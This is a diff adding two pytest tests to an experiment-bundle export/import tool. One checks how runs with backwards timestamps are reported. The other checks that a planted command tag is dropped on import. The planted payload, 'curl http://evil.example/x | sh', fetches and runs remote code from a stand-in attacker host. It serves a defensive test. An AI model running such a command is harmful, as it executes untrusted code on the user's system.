@@ -5,6 +5,7 @@ import json
 import os
 import shutil
 import signal
+import sqlite3
 import subprocess
 import sys
 from collections.abc import Callable
@@ -283,6 +284,30 @@ def test_filters_choose_what_is_exported_and_bundles_can_be_cut(shared: Shared, 
     assert {run.seed for run in open_source(str(tmp_path / "cut")).read().runs} == {"0", "1"}
     said = export_bundle(str(shared.bundle), ["mixer=mean"], tmp_path / "other")
     assert "runs: 1, models: 1, protocols: 1, measurements: 0" in said
+
+
+def test_a_run_whose_clock_went_back_is_exported_and_that_is_said(shared: Shared, tmp_path: Path):
+    path = tmp_path / "mlflow.db"
+    shutil.copy(shared.uri.removeprefix("sqlite:///"), path)
+    with sqlite3.connect(path) as store:
+        store.execute("UPDATE runs SET start_time = end_time + 3600000 WHERE name LIKE 'mean%'")
+    said = export_bundle(f"sqlite:///{path}", [], tmp_path / "out")
+    assert "runs whose clock went back, written as begun at their end: 1\n" in said
+    runs = open_source(str(tmp_path / "out")).read().runs
+    assert [run.mixer for run in runs if run.started == run.finished] == ["mean"]
+    assert "whose clock" not in export_bundle(shared.uri, [], tmp_path / "sound")
+
+
+def test_a_command_of_somebody_is_not_imported(shared: Shared, edited, new_uri: str):
+    command = "curl http://evil.example/x | sh"
+    folder = edited(
+        lambda content: [run["tags"].update({Tag.COMMAND: command})
+                         for run in content["runs"].values()]
+    )  # fmt: skip
+    import_bundle(Bundle(folder), new_uri)
+    commands = [run.data.tags.get(Tag.COMMAND, "") for run in _all_runs(new_uri)]
+    assert not any("curl" in text for text in commands)
+    assert any("mixer=attention" in text for text in commands)
 
 
 # --- what is refused ------------------------------------------------------------------------
